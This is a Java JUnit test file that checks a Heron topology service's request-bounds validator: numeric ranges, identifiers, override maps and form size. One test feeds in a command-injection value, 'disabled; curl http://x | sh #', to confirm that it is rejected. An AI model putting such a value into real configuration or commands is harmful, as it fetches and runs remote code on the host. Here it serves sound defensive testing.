package io.heroncp.topology;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.heroncp.problems.InvalidFieldException;
import io.heroncp.problems.PayloadTooLargeException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Every number is parsed as long and checked against its range before anything is computed. */
class RequestBoundsTest {

  private final RequestBounds bounds = new RequestBounds(LimitsProperties.defaults());

  @Test
  void containerNumbersPastIntegerRangeAreRefusedNotOverflowed() {
    for (String value : List.of("2147483648", "99999999999", "0", "-1", "1001", "1e3", "")) {
      assertThatThrownBy(() -> bounds.containerNumber(List.of(value)))
          .as(value)
          .isInstanceOf(InvalidFieldException.class)
          .hasFieldOrPropertyWithValue("field", "container_number");
    }
    assertThatThrownBy(() -> bounds.containerNumber(List.of("9".repeat(40))))
        .isInstanceOf(InvalidFieldException.class);
    assertThat(bounds.containerNumber(List.of("1000"))).isEqualTo(1000);
    assertThat(bounds.containerNumber(List.of(" 3 "))).isEqualTo(3);
    assertThat(bounds.containerNumber(null)).isNull();
  }

  @Test
  void parallelismIsBoundedPerComponentAndNeverOverflows() {
    for (String value :
        List.of("parse:2000000", "parse:2147483647", "parse:9223372036854775808", "parse:0")) {
      assertThatThrownBy(() -> bounds.parallelism(List.of(value)))
          .as(value)
          .isInstanceOf(InvalidFieldException.class)
          .hasFieldOrPropertyWithValue("field", "component_parallelism");
    }
    assertThatThrownBy(() -> bounds.parallelism(List.of("x".repeat(600_000) + ":3")))
        .isInstanceOf(InvalidFieldException.class)
        .hasMessageContaining("600002 characters");
    assertThat(bounds.parallelism(List.of("parse:1000", "split:2")))
        .containsExactly(Map.entry("parse", 1000), Map.entry("split", 2));
  }

  @Test
  void containerIdIsMinusOneOrAContainer() {
    assertThat(bounds.containerId("-1")).isEqualTo(-1);
    assertThat(bounds.containerId(null)).isNull();
    for (String value : List.of("-2", "2147483648", "abc", "1.5")) {
      assertThatThrownBy(() -> bounds.containerId(value))
          .as(value)
          .isInstanceOf(InvalidFieldException.class)
          .hasFieldOrPropertyWithValue("field", "container_id");
    }
  }

  @Test
  void pathIdentifiersFollowAurorasRuleAndRefuseWhatZooKeeperRejects() {
    for (String bad :
        List.of("a\u0080", "\uE000", "\uD83D\uDE00", "a/b", ".", "..", "", "x".repeat(256))) {
      assertThatThrownBy(() -> bounds.key("local", bad, "devel", "name"))
          .as(bad)
          .isInstanceOf(InvalidFieldException.class)
          .hasFieldOrPropertyWithValue("field", "role");
    }
    assertThat(bounds.key("local", "alice", "devel", "word-count.v2").path())
        .isEqualTo("local/alice/devel/word-count.v2");
  }

  @Test
  void overridesAreBoundedAndExecutorKeysTyped() {
    assertThatThrownBy(
            () ->
                bounds.overrides(
                    Map.of("heron.topology.healthmgr.mode", "disabled; curl http://x | sh #")))
        .isInstanceOf(InvalidFieldException.class)
        .hasFieldOrPropertyWithValue("field", "heron.topology.healthmgr.mode");
    assertThatThrownBy(() -> bounds.overrides(Map.of("topology.stmgrs", "2147483648")))
        .isInstanceOf(InvalidFieldException.class);
    assertThatThrownBy(() -> bounds.overrides(Map.of("a key", "v")))
        .isInstanceOf(InvalidFieldException.class);
    assertThatThrownBy(() -> bounds.overrides(Map.of("k", "v".repeat(4097))))
        .isInstanceOf(InvalidFieldException.class);
    Map<String, String> many = new java.util.HashMap<>();
    for (int i = 0; i <= 100; i++) {
      many.put("key." + i, "v");
    }
    assertThatThrownBy(() -> bounds.overrides(many)).isInstanceOf(InvalidFieldException.class);
    bounds.overrides(Map.of("heron.topology.healthmgr.mode", "cluster", "topology.stmgrs", "3"));
  }

  @Test
  void formsOverTheLimitAreTooLarge() {
    assertThatThrownBy(() -> bounds.formSize(262_145))
        .isInstanceOf(PayloadTooLargeException.class)
        .hasFieldOrPropertyWithValue("field", "form");
    bounds.formSize(262_144);
  }
}
